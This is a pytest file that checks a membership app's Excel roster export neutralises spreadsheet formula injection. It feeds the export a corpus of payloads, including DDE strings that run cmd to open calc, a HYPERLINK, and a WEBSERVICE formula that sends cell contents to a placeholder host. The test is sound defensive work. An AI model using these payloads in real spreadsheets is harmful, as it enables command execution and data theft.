"""T-EXPORT: whatever people have written about themselves, no cell of the exported list is ever a live formula.

Every text of the corpus goes through a person's record, the page and the file. Negative control: without the
apostrophe the same cells begin like formulas.
"""

from io import BytesIO
from typing import Any

import pytest
from openpyxl import load_workbook

from members.comparison import keyed
from members.models import Affiliation, Person
from rulebook.printing import excel
from tests.factories import BranchFactory
from tests.factories.branch import FOUNDED

pytestmark = pytest.mark.django_db
SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
BEFORE = ["", " ", "  ", "\u00a0", "\u3000", "\ufeff", "\u200b", " \u3000"]
PAYLOADS = [
    "1+1",
    'HYPERLINK("http://x.example","点我")',
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://x.example/"&A1)',
    "SUM(1,2)*cmd|'/C calc'!A0",
]
CORPUS = [before + sign + payload for sign in SIGNS for before in BEFORE for payload in PAYLOADS]


def exported(client: Any, house: BranchFactory) -> list[list[Any]]:
    answer = client.post(f"/b/{house.branch.code}/roster/export/", {"reason": ""})
    sheet = load_workbook(BytesIO(answer.content))["党员名册"]
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows(min_row=2)]


def begins_a_formula(text: str | None) -> bool:
    return bool(text) and str(text).lstrip(" \u3000\u00a0\ufeff\u200b").startswith(tuple(SIGNS))


@pytest.fixture
def house() -> BranchFactory:
    """A branch whose people have put the corpus into every text the list shows."""
    house = BranchFactory(members=1)
    rows = [
        Person(
            **keyed({"name": text[:60]}),
            sex="male",
            admitted_on=FOUNDED,
            department=text[:60],
            education=text[:20],
            nationality=text[:20],
        )
        for text in CORPUS
    ]
    people = Person.objects.bulk_create(rows)
    Affiliation.objects.bulk_create(
        Affiliation(person=person, organization=house.branch, since=FOUNDED) for person in people
    )
    return house


def test_no_cell_is_a_formula_and_none_would_become_one_in_a_csv(client, house):
    client.force_login(house.secretary)
    rows = exported(client, house)
    cells = [cell for row in rows for cell in row]
    assert len(rows) == len(CORPUS) + 1
    assert {kind for value, kind in cells if value is not None} == {"s"}
    assert [value for value, _ in cells if begins_a_formula(value)] == []


def test_without_the_apostrophe_they_would_be(client, house, monkeypatch):
    monkeypatch.setattr(excel, "inert", lambda value: "" if value is None else str(value))
    client.force_login(house.secretary)
    cells = [cell for row in exported(client, house) for cell in row]
    assert sum(begins_a_formula(value) for value, _ in cells) >= len(CORPUS)
